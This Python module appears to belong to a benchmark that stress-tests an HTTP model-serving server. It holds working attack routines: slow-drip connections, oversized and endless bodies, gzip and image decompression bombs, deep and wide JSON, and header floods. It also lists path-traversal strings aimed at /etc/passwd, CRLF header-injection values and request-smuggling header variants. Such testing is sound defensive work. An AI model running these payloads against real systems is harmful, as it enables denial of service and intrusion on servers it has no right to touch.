"""Owns the attacks over HTTP by name, as `attackers` owns those over gRPC."""

from __future__ import annotations

import json
import time
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from itertools import cycle, islice, repeat

from bench.attacks import victims
from bench.attacks.attackers import Attack, Target, counted, gzip_bomb, idle, image_bomb
from bench.raw_http1 import Conversation

CLASSIFY = b"POST /v1/models/small/classify HTTP/1.1\r\nHost: a\r\n"
INFER = b"POST /v2/models/wide/infer HTTP/1.1\r\nHost: a\r\n"
GET = b"GET /healthz HTTP/1.1\r\nHost: a\r\n"
_MIB = 1 << 20


def slow_heads(target: Target) -> str:
    """500 connections that send a byte of their headers every second."""
    return _dripped(target, 500, GET + b"A: ", repeat(b"b"))


def slow_bodies(target: Target) -> str:
    """200 connections that announce 50 MB and send 100 bytes every second."""
    return _dripped(target, 200, CLASSIFY + b"Content-Length: 50000000\r\n\r\n", repeat(bytes(100)))


def huge_bodies(target: Target) -> str:
    """8 callers announce 10 GB, again and again, and send as much as is taken."""
    return _repeated(target, 8, CLASSIFY + b"Content-Length: 10000000000\r\n\r\n" + bytes(4 * _MIB))


def half_bodies(target: Target) -> str:
    """64 connections that each send 50 MB of a body of 60 MB, and then wait."""
    conversations = [Conversation(target.http) for _ in range(64)]
    give_up = time.monotonic() + target.seconds
    for conversation in conversations:
        conversation.send(CLASSIFY + b"Content-Length: 60000000\r\n\r\n")
        while (
            conversation.sent_bytes < 50 * _MIB and time.monotonic() < give_up and conversation.send(bytes(_MIB), 0.5)
        ):
            pass
    return _finished(conversations, 2.0)


def chunks_without_end(target: Target) -> str:
    """8 callers that send chunks of 1 MB until they are stopped, again and again."""
    chunk = b"%x\r\n" % _MIB + bytes(_MIB) + b"\r\n"
    return _repeated(target, 8, CLASSIFY + b"Transfer-Encoding: chunked\r\n\r\n", repeat(chunk))


def small_chunks(target: Target) -> str:
    """4 callers that send chunks of one byte without end."""
    return _repeated(target, 4, CLASSIFY + b"Transfer-Encoding: chunked\r\n\r\n", repeat(b"1\r\na\r\n" * 10_000))


def unread_answers(target: Target) -> str:
    """200 connections that ask for answers of 8 MB each, 16 at a time, and read none."""
    pixels = victims.image(2) * 20
    images: dict[str, object] = {"name": "images", "shape": [20, victims.SIDE, victims.SIDE, 1], "datatype": "UINT8"}
    images["parameters"] = {"binary_data_size": len(pixels)}
    head = json.dumps({"inputs": [images], "parameters": {"binary_data_output": True}}).encode()
    size = len(head) + len(pixels)
    lengths = b"Inference-Header-Content-Length: %d\r\nContent-Length: %d\r\n\r\n" % (len(head), size)
    request = INFER + lengths + head + pixels
    conversations = [Conversation(target.http, receive_bytes=4096) for _ in range(200)]
    for conversation in conversations:
        conversation.send(request * 16, 0.05)
    time.sleep(target.seconds)
    return _finished(conversations, 0.0)


def silent_connections(target: Target) -> str:
    """1,004 connections that send nothing, to a server that was started with a soft limit of 1,024 files."""

    def newcomer() -> str:
        began = time.monotonic()
        with Conversation(target.http) as conversation:
            conversation.send(GET + b"\r\n")
            conversation.read(2.0, 1)
            return f"; a newcomer gets {conversation.got} after {(time.monotonic() - began) * 1000:.0f} ms"

    return idle(target, target.http, 1_004, b"", newcomer)


def sent_ahead(target: Target) -> str:
    """4 callers that send 10,000 requests at once, and read nothing before."""
    return _repeated(target, 4, (GET + b"\r\n") * 10_000)


def hung_up(target: Target) -> str:
    """8 callers that ask for an answer and close the connection at once."""
    picture = victims.picture(3)
    request = CLASSIFY + b"Content-Length: %d\r\n\r\n" % len(picture) + picture

    def call(_: int) -> int:
        count, give_up = 0, time.monotonic() + target.seconds
        while time.monotonic() < give_up:
            with Conversation(target.http) as conversation:
                conversation.send(request)
            count += 1
        return count

    with ThreadPoolExecutor(8) as pool:
        return f"{sum(pool.map(call, range(8))):,} hung up"


def gzip_bombs(target: Target) -> str:
    """8 callers that send 1 MB that unfolds to 1 GB, as content and as transfer encoding."""
    bomb = gzip_bomb()
    length = b"Content-Length: %d\r\n\r\n" % len(bomb)
    as_content = CLASSIFY + b"Content-Encoding: gzip\r\n" + length + bomb
    as_transfer = CLASSIFY + b"Transfer-Encoding: gzip, chunked\r\n\r\n%x\r\n" % len(bomb) + bomb + b"\r\n0\r\n\r\n"
    return _each_of(target, 8, [as_content, as_transfer])


def image_bombs(target: Target) -> str:
    """8 callers that send files of a few kilobytes with 50 million pixels."""
    files = [image_bomb("WEBP", lossless=True), image_bomb("PNG")]
    return _each_of(target, 8, [CLASSIFY + b"Content-Length: %d\r\n\r\n" % len(file) + file for file in files])


def path_traversal(target: Target) -> str:
    """Paths that would lead out of a folder, if paths led into one."""
    return _each_of(target, 4, [b"GET %b HTTP/1.1\r\nHost: a\r\n\r\n" % path for path in TRAVERSALS])


def header_injection(target: Target) -> str:
    """Values with line ends, in what comes back in headers or errors; how often one became a header."""
    requests = []
    for value in INJECTIONS:
        requests += [GET + b"X-Request-Id: " + value + b"\r\n\r\n", GET + b"Origin: http://" + value + b"\r\n\r\n"]
        requests.append(b"GET /v1/models/" + value + b"?a=" + value + b" HTTP/1.1\r\nHost: a\r\n\r\n")
    injected = Counter[str]()

    def look(conversation: Conversation) -> None:
        heads = [answer.partition(b"\r\n\r\n")[0] for answer in conversation.answers.split(b"HTTP/1.1 ")]
        if any(b"\r\nset-cookie" in head.lower() for head in heads):
            injected["times"] += 1

    return f"{_each_of(target, 4, requests, look)}; injected {injected['times']} times"


def smuggling(target: Target) -> str:
    """Requests that two servers might read differently; how often a second request came out of one."""
    hidden = b"GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n"
    requests = [
        CLASSIFY + fields.replace(b"LENGTH", b"%d" % (5 + len(hidden))) + b"\r\n0\r\n\r\n" + hidden
        for fields in AMBIGUOUS
    ]
    smuggled = Counter[str]()

    def look(conversation: Conversation) -> None:
        smuggled["times"] += len(conversation.statuses) > 1

    return f"{_each_of(target, 4, requests, look)}; smuggled {smuggled['times']} times"


def many_parts(target: Target) -> str:
    """4 callers that send forms of a million parts."""
    form = b"--b\r\n\r\n" * 1_000_000 + b"--b--\r\n"
    return _repeated(target, 4, _form(form))


def many_files(target: Target) -> str:
    """4 callers that send forms of 4,096 files that are no images."""
    form = b"--b\r\nContent-Disposition: form-data; filename=a\r\n\r\nno image\r\n" * 4096 + b"--b--\r\n"
    return _repeated(target, 4, _form(form))


def deep_json(target: Target) -> str:
    """4 callers that send 7 MB of arrays in arrays, some of them complete."""
    complete = b'{"images": ' + b"[" * 900 + b"]" * 900 + b"}"
    return _each_of(target, 4, [_json(b'{"images": ' + b"[" * (7 * _MIB)), _json(complete), _json(b"[" * 100_000)])


def wide_json(target: Target) -> str:
    """4 callers that send 7 MB of JSON: a million numbers, a million members, one string."""
    numbers = b'{"images": [' + b"1," * (3 * _MIB) + b"1]}"
    members = b"{" + b",".join(b'"%d": 1' % number for number in range(500_000)) + b"}"
    text = b'{"image": "' + b"A" * (7 * _MIB) + b'"}'
    return _each_of(target, 4, [_json(numbers), _json(members), _json(text)])


def endless_heads(target: Target) -> str:
    """8 callers that send headers without end: many, a long one, a long target."""
    many = (GET + b"a: b\r\n" * 50_000, repeat(b"a: b\r\n" * 10_000))
    long = (GET + b"a: ", repeat(b"b" * _MIB))
    url = (b"GET /", repeat(b"u" * _MIB))
    return _together(target, 8, [many, long, url])


TRAVERSALS = (
    b"/../../../../etc/passwd", b"/docs/../../../../../etc/passwd", b"/docs/%2e%2e/%2e%2e/app.py",
    b"/docs/..%2f..%2fapp.py", b"/docs/..%5c..%5capp.py", b"/docs/%252e%252e/app.py", b"/v1/models/../../etc/passwd",
    b"/v1/models/..%2f..%2fetc%2fpasswd", b"//etc/passwd", b"/docs/./../../app.py", b"/v2/models/%2e%2e/ready",
    b"/predictions/..%00/x", b"file:///etc/passwd", b"/docs/docs.js%00.html",
)  # fmt: skip
INJECTIONS = (
    b"a\r\nSet-Cookie: a=b", b"a\nSet-Cookie: a=b", b"a\rSet-Cookie: a=b", b"a%0d%0aSet-Cookie:%20a=b",
    b"a\r\n Set-Cookie: a=b", b"a\0Set-Cookie: a=b", "a\u010d\u010aSet-Cookie: a=b".encode(),
)  # fmt: skip
AMBIGUOUS = (  # headers of a body that ends where the hidden request begins, or after it
    b"Content-Length: LENGTH\r\nTransfer-Encoding: chunked\r\n", b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n",
    b"Content-Length: 4\r\nContent-Length: LENGTH\r\n", b"Content-Length: 4, LENGTH\r\n", b"Content-Length: +4\r\n",
    b"Content-Length: 0x4\r\n", b"Content-Length : LENGTH\r\n", b"Transfer-Encoding: xchunked\r\n",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\nContent-Length: LENGTH\r\n",
    b"Transfer-Encoding:\x0bchunked\r\n", b"Transfer-Encoding\r\n : chunked\r\n", b"Transfer-Encoding : chunked\r\n",
    b"X: y\nTransfer-Encoding: chunked\r\nContent-Length: LENGTH\r\n", b"Content-Length: 4\r\n LENGTH\r\n",
    b"Connection: Upgrade\r\nUpgrade: h2c\r\nContent-Length: 4\r\nContent-Length: LENGTH\r\n",
)  # fmt: skip

HTTP_ATTACKS = {
    "slow heads": Attack(slow_heads, min_seconds=14),
    "slow bodies": Attack(slow_bodies, min_seconds=25),
    "huge bodies": Attack(huge_bodies),
    "64 half bodies": Attack(half_bodies),
    "chunks without end": Attack(chunks_without_end),
    "chunks of one byte": Attack(small_chunks),
    "unread answers": Attack(unread_answers, others=("wide",)),
    "silent connections": Attack(silent_connections, soft_files=1024),
    "sent ahead": Attack(sent_ahead),
    "hung up": Attack(hung_up),
    "gzip bombs": Attack(gzip_bombs),
    "image bombs": Attack(image_bombs),
    "path traversal": Attack(path_traversal),
    "header injection": Attack(header_injection),
    "smuggling": Attack(smuggling),
    "a million parts": Attack(many_parts),
    "4,096 files": Attack(many_files),
    "deep JSON": Attack(deep_json),
    "wide JSON": Attack(wide_json),
    "endless heads": Attack(endless_heads),
}

Look = Callable[[Conversation], None]


def _json(text: bytes) -> bytes:
    return CLASSIFY + b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(text) + text


def _form(text: bytes) -> bytes:
    kind = b"Content-Type: multipart/form-data; boundary=b\r\n"
    return CLASSIFY + kind + b"Content-Length: %d\r\n\r\n" % len(text) + text


def _repeated(target: Target, callers: int, first: bytes, pieces: Iterator[bytes] = iter(())) -> str:  # noqa: B008
    """Each caller sends `first` and then all of `pieces`, as far as they are taken; then the same on a new
    connection."""
    return _together(target, callers, [(first, pieces)])


def _each_of(target: Target, callers: int, requests: Sequence[bytes], look: Look = lambda _: None) -> str:
    """Callers that send one request after the other, each on a new connection; `look` sees what came."""
    return _together(target, callers, [(request, iter(())) for request in requests], look)


def _together(
    target: Target, callers: int, requests: Sequence[tuple[bytes, Iterator[bytes]]], look: Look = lambda _: None
) -> str:
    give_up = time.monotonic() + target.seconds
    outcomes: Counter[str] = Counter()

    def call(place: int) -> None:
        for first, pieces in islice(cycle(requests), place % len(requests), None):
            if time.monotonic() >= give_up:
                return
            with Conversation(target.http) as conversation:
                if conversation.send(first):
                    while time.monotonic() < give_up and (piece := next(pieces, b"")) and conversation.send(piece):
                        pass
                conversation.read(2.0 if not conversation.ended else 0.0, 1)
                if conversation.statuses and not conversation.ended:
                    conversation.read(0.05)  # whether more comes, or the end
                look(conversation)
                outcomes[conversation.got[:60]] += 1

    with ThreadPoolExecutor(callers) as pool:
        list(pool.map(call, range(callers)))
    return counted(outcomes)


def _dripped(target: Target, count: int, first: bytes, pieces: Iterator[bytes]) -> str:
    """Connections that send `first`, and then a piece each second."""
    conversations = [Conversation(target.http) for _ in range(count)]
    for conversation in conversations:
        conversation.send(first, 0.5)
    give_up = time.monotonic() + target.seconds
    while time.monotonic() < give_up:
        time.sleep(1.0)
        piece = next(pieces)
        for conversation in conversations:
            conversation.send(piece, 0.05)
    return _finished(conversations, 0.0)


def _finished(conversations: Sequence[Conversation], read_s: float) -> str:
    """The outcome of each conversation in the end, and how much all could send."""
    with ThreadPoolExecutor(64) as pool:
        list(pool.map(partial(_read, seconds=read_s), conversations))
    outcomes = Counter(conversation.got for conversation in conversations)
    sent_bytes = sum(conversation.sent_bytes for conversation in conversations)
    for conversation in conversations:
        conversation.__exit__()
    return f"{sent_bytes / _MIB:,.0f} MB taken; {counted(outcomes)}"


def _read(conversation: Conversation, seconds: float) -> None:
    conversation.read(max(seconds, 0.01))
